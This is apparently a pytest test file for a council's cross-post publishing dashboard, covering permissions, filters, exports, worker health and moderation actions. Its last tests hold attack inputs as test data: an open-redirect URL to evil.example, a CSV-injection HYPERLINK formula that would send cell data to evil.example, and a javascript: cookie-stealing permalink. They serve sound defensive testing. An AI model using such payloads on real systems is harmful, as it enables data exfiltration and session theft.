"""The cross-post dashboard: what each role sees, filters, exports, refreshing,
worker health and the actions comms managers take."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.models import GroupPagePermission, Page

from publishing.models import CrossPost, PeriodicRun, WorkerHeartbeat
from tests.factories import PolicyPageFactory
from tests.publishing.conftest import (
    TOKEN,
    action_url,
    make_account,
    make_row,
    texts,
    unique_key,
)

State = CrossPost.State
DASHBOARD = reverse("publishing_admin:dashboard")
RESULTS = reverse("publishing_admin:dashboard_results")


@pytest.fixture
def account(db):
    return make_account()


@pytest.fixture
def policy_page(site):
    return PolicyPageFactory(parent=site["policies"], title="Recycling policy")


@pytest.fixture
def outside_page(site):
    """A page outside the council site, which editors cannot edit (Wagtail's
    own migrations give its default groups the root; the council's do not)."""
    GroupPagePermission.objects.filter(page__depth=1).delete()
    return PolicyPageFactory(parent=Page.get_first_root_node(), title="Elsewhere")


def test_comms_manager_sees_every_row_with_counts_and_actions(
    client, people, account, policy_page, outside_page
):
    make_row(account, State.FAILED, page=policy_page, last_error="Duplicate status")
    make_row(account, State.HELD, page=outside_page)
    client.force_login(people["comms"])

    response = client.get(DASHBOARD)

    assert response.status_code == 200
    html = response.content.decode()
    assert "Recycling policy" in html and "Elsewhere" in html
    assert "Failed: <strong>1</strong>" in html
    assert "Held for approval: <strong>1</strong>" in html
    assert "Duplicate status" in html
    assert "Retry now" in html and "Approve" in html
    assert TOKEN not in html


def test_a_post_to_be_sent_again_after_its_retraction_says_so(client, people, account):
    make_row(account, State.RETRACTING)
    make_row(account, State.RETRACTING, operation="repost")
    client.force_login(people["comms"])

    html = client.get(DASHBOARD).content.decode()

    assert html.count("then posted again: the page was published again") == 1


def test_editor_sees_only_rows_of_pages_they_can_edit_and_no_actions(
    client, people, account, policy_page, outside_page
):
    make_row(account, State.FAILED, page=policy_page)
    make_row(account, State.POSTED, page=outside_page)
    client.force_login(people["editor"])

    html = client.get(DASHBOARD).content.decode()

    assert "Recycling policy" in html
    assert "Elsewhere" not in html
    assert "Retry now" not in html and "Take down" not in html


def test_filters_narrow_the_list(client, people, account):
    other = make_account("facebook", "200000000001", "Exampleshire CC")
    make_row(account, State.FAILED, title="Road closures")
    make_row(account, State.POSTED, title="Library hours")
    make_row(other, State.FAILED, title="Council tax bands")
    client.force_login(people["comms"])

    def titles(**params):
        html = client.get(RESULTS, params).content.decode()
        names = ("Road closures", "Library hours", "Council tax bands")
        return {title for title in names if title in html}

    assert titles(state="failed") == {"Road closures", "Council tax bands"}
    assert titles(platform="facebook") == {"Council tax bands"}
    assert titles(account=account.pk) == {"Road closures", "Library hours"}
    assert titles(page="library") == {"Library hours"}


def test_created_date_range_filter(client, people, account):
    old = make_row(account, State.POSTED, title="Old news")
    CrossPost.objects.filter(pk=old.pk).update(
        created_at=timezone.now() - timedelta(days=40)
    )
    make_row(account, State.POSTED, title="Fresh news")
    client.force_login(people["comms"])
    since = (timezone.localdate() - timedelta(days=7)).isoformat()

    html = client.get(RESULTS, {"created_at_from": since}).content.decode()

    assert "Fresh news" in html and "Old news" not in html


def test_query_count_does_not_grow_with_rows(client, people, account):
    client.force_login(people["comms"])
    client.get(DASHBOARD)  # warm caches (content types, settings)

    def queries_for_listing():
        with CaptureQueriesContext(connection) as captured:
            assert client.get(DASHBOARD).status_code == 200
        return len(captured)

    for _ in range(3):
        make_row(make_account("facebook", f"page-{unique_key()}", "Page"), State.FAILED)
    few = queries_for_listing()
    for _ in range(30):
        make_row(make_account("x", f"user-{unique_key()}", "@someone"), State.POSTED)
    many = queries_for_listing()

    assert many == few


def test_csv_and_xlsx_exports_hold_the_rows(client, people, account):
    make_row(account, State.POSTED, title="Bin day moves", likes=12, views=340)
    client.force_login(people["comms"])

    response = client.get(DASHBOARD, {"export": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(
        csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    )
    assert rows[0]["Page"] == "Bin day moves"
    # A leading "@" starts a formula in Excel, so even an X handle is quoted.
    assert rows[0]["Account"] == "'@ExampleshireCC"
    assert rows[0]["State"] == "Posted"
    assert rows[0]["Likes"] == "12"

    response = client.get(DASHBOARD, {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [cell.value for cell in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert "Bin day moves" in values and 340 in values


def test_export_dates_are_iso_8601_to_the_second_in_the_council_time_zone(
    client, people, account
):
    # 13:50:36.375849 UTC on a summer day is 14:50:36 in London (BST).
    created = datetime(2026, 7, 4, 13, 50, 36, 375849, tzinfo=UTC)
    make_row(
        account,
        State.POSTED,
        title="Summer fair",
        created_at=created,
        posted_at=created + timedelta(minutes=1),
    )
    client.force_login(people["comms"])

    response = client.get(DASHBOARD, {"export": "csv"})
    row = next(
        csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    )
    assert row["Created"] == "2026-07-04T14:50:36+01:00"
    assert row["Posted"] == "2026-07-04T14:51:36+01:00"
    assert row["Figures fetched"] == ""

    response = client.get(DASHBOARD, {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    headings, values = sheet.iter_rows(min_row=1, max_row=2, values_only=True)
    cells = dict(zip(headings, values, strict=True))
    assert cells["Created"] == "2026-07-04T14:50:36+01:00"
    assert cells["Posted"] == "2026-07-04T14:51:36+01:00"
    assert datetime.fromisoformat(cells["Created"]) == created.replace(microsecond=0)


def test_a_page_is_one_row_with_a_chip_per_channel_opening_to_its_rows(
    client, people, account, policy_page
):
    facebook = make_account("facebook", "200000000001", "Exampleshire CC")
    youtube = make_account("youtube", "UC1", "Exampleshire TV")
    make_row(account, State.FAILED, page=policy_page, last_error="Duplicate status")
    permalink = f"{settings.SOCIAL_CHANNELS['facebook']['WEB_URL']}/posts/1"
    make_row(facebook, State.POSTED, page=policy_page, permalink=permalink)
    make_row(youtube, State.HELD, page=policy_page)
    make_row(account, State.PENDING, title="A page since deleted")
    client.force_login(people["comms"])

    html = client.get(RESULTS).content.decode()

    body = html.split("<tbody>", 1)[1]
    listed = re.findall(r'<td class="social-channels">', body)
    assert len(listed) == 2  # the policy page once, the deleted page's row once
    assert html.count("Recycling policy") == 2  # the title and its hover text
    chips = re.findall(r'social-chip social-chip--(\w+)">([^<]+)<', html)
    assert ("failed", "X: Failed") in chips
    assert ("posted", "Facebook: Posted") in chips
    assert ("held", "YouTube: Held for approval") in chips
    assert ("waiting", "X: Waiting to send") in chips
    # Each page opens to its channels: their errors, links and actions.
    assert html.count("<details") == 2
    assert "Duplicate status" in html and permalink in html
    assert "Retry now" in html and "Approve" in html
    assert 'style="' not in body


def test_a_post_taken_down_says_when_and_is_no_longer_a_link(
    client, people, policy_page
):
    facebook = make_account("facebook", "200000000001", "Exampleshire CC")
    permalink = f"{settings.SOCIAL_CHANNELS['facebook']['WEB_URL']}/posts/1"
    make_row(
        facebook, State.RETRACTED, page=policy_page, permalink=permalink,
        remote_id="200_1", retracted_at=datetime(2026, 12, 4, 14, 5, tzinfo=UTC),
    )
    client.force_login(people["comms"])

    html = client.get(RESULTS).content.decode()

    assert permalink not in html and "View post" not in html
    assert "Taken down 4 Dec 2026, 14:05" in html


def test_filters_narrow_the_channels_a_page_shows(client, people, account, policy_page):
    facebook = make_account("facebook", "200000000001", "Exampleshire CC")
    make_row(account, State.FAILED, page=policy_page)
    make_row(facebook, State.POSTED, page=policy_page)
    client.force_login(people["comms"])

    html = client.get(RESULTS, {"state": "failed"}).content.decode()

    assert "X: Failed" in html and "Facebook: Posted" not in html


def test_engagement_shows_where_fetched_with_when_and_hides_where_none(
    client, people, account, policy_page
):
    facebook = make_account("facebook", "200000000001", "Exampleshire CC")
    fetched = datetime(2026, 12, 4, 9, 15, tzinfo=UTC)
    make_row(
        account,
        State.POSTED,
        page=policy_page,
        likes=12,
        shares=3,
        views=None,
        metrics_updated_at=fetched,
    )
    make_row(facebook, State.POSTED, page=policy_page)  # never fetched
    client.force_login(people["comms"])

    with time_machine.travel(fetched + timedelta(hours=1), tick=False):
        html = client.get(RESULTS).content.decode()

    assert html.count('class="social-engagement"') == 1
    assert "12 likes, 3 shares" in html and "views" not in html
    assert "as of 09:15" in html
    assert "Engagement" not in html


def test_listing_asks_to_refresh_only_while_posts_are_in_flight(
    client, people, account
):
    client.force_login(people["comms"])
    row = make_row(account, State.PENDING)
    html = client.get(RESULTS).content.decode()
    assert "data-social-refresh" in html
    assert f'data-url="{RESULTS}"' in html

    CrossPost.objects.filter(pk=row.pk).update(state=State.POSTED)
    assert "data-social-refresh" not in client.get(RESULTS).content.decode()

    page = client.get(DASHBOARD).content.decode()
    assert "publishing/admin/dashboard_refresh.js" in page
    assert "<script>" not in page.split("dashboard_refresh.js")[0][-300:]


def test_a_row_listed_on_its_way_keeps_the_list_refreshing_though_posted_since(
    client, people, account, monkeypatch
):
    # The worker posts between the listing's read and the counts' read: the
    # list shows "Sending", and must refresh until it shows "Posted".
    from publishing import actions

    client.force_login(people["comms"])
    row = make_row(account, State.SENDING)
    counted = actions.summary

    def posted_meanwhile(*args, **kwargs):
        CrossPost.objects.filter(pk=row.pk).update(state=State.POSTED)
        return counted(*args, **kwargs)

    monkeypatch.setattr(actions, "summary", posted_meanwhile)
    html = client.get(RESULTS).content.decode()

    assert "Sending" in html
    assert "data-social-refresh" in html


@pytest.mark.parametrize(
    ("seen_ago", "expected", "warned"),
    [
        (None, "Posting service: not started.", True),
        (timedelta(seconds=20), "Posting service: running.", False),
        (timedelta(minutes=5), "Posting service: stopped since 10:42.", True),
        # Stopped on an earlier day: the day is said too.
        (timedelta(days=1), "stopped since 3 Dec 2026, 10:47.", True),
    ],
)
def test_worker_health_line_says_in_plain_words_whether_posting_runs(
    client, people, seen_ago, expected, warned
):
    # 10:47 in London (GMT in December).
    now = datetime(2026, 12, 4, 10, 47, 30, tzinfo=UTC)
    with time_machine.travel(now, tick=False):
        if seen_ago is not None:
            WorkerHeartbeat.objects.create(
                hostname="celery@web", seen_at=now - seen_ago
            )
        client.force_login(people["comms"])

        html = client.get(DASHBOARD).content.decode()

    assert expected in html
    assert "last seen" not in html
    assert ("posts are not being sent" in html) is warned


EVERY_QUEUE = "celery,crosspost,uploads"


@pytest.mark.parametrize(
    ("heartbeats", "expected"),
    [
        # The text worker runs; the uploads worker has not been seen for 5 min.
        (
            [("worker@h", "celery,crosspost", 0), ("uploads@h", "uploads", 5)],
            ['No worker has taken video uploads (the "uploads" queue) for 5 minutes.'],
        ),
        # No worker takes the uploads queue at all.
        (
            [("worker@h", "celery,crosspost", 0)],
            ['No running worker takes video uploads (the "uploads" queue).'],
        ),
        # Two queues without a worker: each is named.
        (
            [("uploads@h", "uploads", 0)],
            [
                'No running worker takes text and image posts (the "crosspost" queue).',
                "No running worker takes the sweeper and other scheduled jobs",
            ],
        ),
        # Every queue has a running worker, on one worker or several.
        ([("celery@h", EVERY_QUEUE, 0)], []),
        ([("worker@h", "celery,crosspost", 0), ("uploads@h", "uploads", 1)], []),
        # A worker that said nothing of its queues (noted before they were kept)
        # counts for all of them.
        ([("celery@h", "", 0)], []),
    ],
)
def test_a_queue_without_a_running_worker_is_named(
    client, people, heartbeats, expected
):
    now = timezone.now()
    for hostname, queues, minutes_ago in heartbeats:
        WorkerHeartbeat.objects.create(
            hostname=hostname,
            queues=queues,
            seen_at=now - timedelta(minutes=minutes_ago),
        )
    client.force_login(people["comms"])

    html = client.get(DASHBOARD).content.decode().replace("&quot;", '"')

    assert html.count("data-queue-health=") == len(expected)
    for line in expected:
        assert line in html
    if expected:
        assert "They wait until one does" in html


@pytest.mark.parametrize(
    ("swept_ago", "worker_ago", "started_ago", "expected"),
    [
        (timedelta(seconds=40), timedelta(seconds=10), None, None),
        (
            timedelta(minutes=9),
            timedelta(seconds=10),
            None,
            "The sweeper last ran 9 minutes ago.",
        ),
        # Never run: stopped once a worker has been up longer than a sweeper
        # may be silent, or when no worker start is on record ...
        (
            None,
            timedelta(seconds=10),
            timedelta(minutes=5),
            "The sweeper has not run yet.",
        ),
        (None, timedelta(seconds=10), None, "The sweeper has not run yet."),
        # ... but not while beat has had no time to send the first sweep.
        (None, timedelta(seconds=10), timedelta(seconds=20), None),
        # A stopped worker is said first; the sweeper runs on it anyway.
        (timedelta(minutes=9), timedelta(minutes=9), None, None),
    ],
)
def test_sweeper_health_line(
    client, people, swept_ago, worker_ago, started_ago, expected
):
    now = timezone.now()
    WorkerHeartbeat.objects.create(
        hostname="celery@web",
        seen_at=now - worker_ago,
        started_at=now - started_ago if started_ago else None,
    )
    if swept_ago is not None:
        PeriodicRun.objects.create(name=PeriodicRun.SWEEP, ran_at=now - swept_ago)
    client.force_login(people["comms"])

    html = client.get(DASHBOARD).content.decode()

    assert ("Check that Celery beat is running" in html) is (expected is not None)
    if expected:
        assert expected in html


def test_retry_now_queues_a_failed_row(client, people, account):
    row = make_row(account, State.FAILED, attempts=12, last_error="Gave up")
    client.force_login(people["comms"])

    response = client.post(action_url(row, "retry"), {"next": DASHBOARD})

    assert response.status_code == 302 and response["Location"] == DASHBOARD
    row.refresh_from_db()
    assert row.state == State.PENDING and row.attempts == 0
    assert any("will be sent again" in text for text in texts(response))


def test_a_held_post_says_on_the_dashboard_why_it_was_held(client, people, account):
    why = (
        "This looks like a UK phone number: 01632 960 000. Personal data must not "
        "be posted."
    )
    make_row(
        account,
        State.HELD,
        guard_findings=[{"rule": "uk_phone", "message": why, "match": "01632 960 000"}],
    )
    # A post approved after it was held keeps its findings, but is not held.
    make_row(
        account,
        State.POSTED,
        title="Library hours",
        guard_findings=[{"rule": "uk_phone", "message": "Approved number"}],
    )
    client.force_login(people["comms"])

    html = client.get(DASHBOARD).content.decode()

    # Beside the actions, so a comms manager can triage from the list.
    assert why in html
    assert "Approved number" not in html


def test_approving_needs_a_reason(client, people, account):
    row = make_row(account, State.HELD)
    client.force_login(people["comms"])

    response = client.post(action_url(row, "approve"), {"reason": "  "})

    assert response.status_code == 200
    assert "This field is required" in response.content.decode()
    row.refresh_from_db()
    assert row.state == State.HELD


def test_approve_and_reject_record_who_and_why(client, people, account):
    other = make_account("facebook", "200000000001", "Exampleshire CC")
    held, rejected = make_row(account, State.HELD), make_row(other, State.HELD)
    comms = people["comms"]
    client.force_login(comms)

    client.post(
        action_url(held, "approve"),
        {"reason": "Number is the helpline", "content_hash": held.content_hash},
    )
    client.post(action_url(rejected, "reject"), {"reason": "Embargoed until Friday"})

    held.refresh_from_db()
    rejected.refresh_from_db()
    assert (held.state, held.reviewed_by, held.review_reason) == (
        State.PENDING,
        comms,
        "Number is the helpline",
    )
    assert rejected.state == State.CANCELLED
    assert rejected.review_reason == "Embargoed until Friday"


def test_retract_and_cancel(client, people, account):
    other = make_account("facebook", "200000000001", "Exampleshire CC")
    posted = make_row(account, State.POSTED, remote_id="99")
    pending = make_row(other, State.PENDING)
    client.force_login(people["comms"])

    client.post(action_url(posted, "retract"))
    client.post(action_url(pending, "cancel"), {"reason": ""})

    posted.refresh_from_db()
    pending.refresh_from_db()
    assert posted.state == State.RETRACTING
    assert pending.state == State.CANCELLED


def test_an_action_that_no_longer_applies_does_nothing_and_says_so(
    client, people, account
):
    row = make_row(account, State.POSTED)
    client.force_login(people["comms"])

    response = client.post(action_url(row, "approve"), {"reason": "ok"})

    row.refresh_from_db()
    assert row.state == State.POSTED and row.reviewed_by is None
    assert any("Nothing was done" in text for text in texts(response))


def test_unknown_action_is_not_found(client, people, account):
    row = make_row(account, State.FAILED)
    client.force_login(people["comms"])
    assert client.post(action_url(row, "explode")).status_code == 404


def test_next_url_to_another_site_is_ignored(client, people, account):
    row = make_row(account, State.FAILED)
    client.force_login(people["comms"])

    response = client.post(action_url(row, "retry"), {"next": "https://evil.example/"})

    assert response["Location"] == DASHBOARD


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+SUM(1,2)", "@SUM(1)"]


def test_csv_export_writes_formulas_as_text(client, people, account):
    """A spreadsheet opening the export must show these, not run them (OWASP's
    CSV injection rule: a leading single quote)."""
    for formula in FORMULAS:
        make_row(account, State.FAILED, title=formula, last_error="-2+3")
    make_row(account, State.FAILED, title="\tTabbed", last_error="\r=1+1")
    client.force_login(people["comms"])

    response = client.get(DASHBOARD, {"export": "csv"})
    rows = list(
        csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    )

    assert sorted(row["Page"] for row in rows) == sorted(
        ["'" + formula for formula in FORMULAS] + ["'\tTabbed"]
    )
    assert {row["Last error"] for row in rows} == {"'-2+3", "'\r=1+1"}


def test_a_permalink_off_the_platforms_hosts_is_not_a_link(client, people, account):
    make_row(account, State.POSTED, permalink="javascript:alert(document.cookie)")
    good = f"{settings.SOCIAL_CHANNELS['x']['WEB_URL']}/council/status/1"
    make_row(account, State.POSTED, permalink=good)
    client.force_login(people["comms"])

    html = client.get(DASHBOARD).content.decode()

    assert "javascript:" not in html
    assert f'href="{good}"' in html
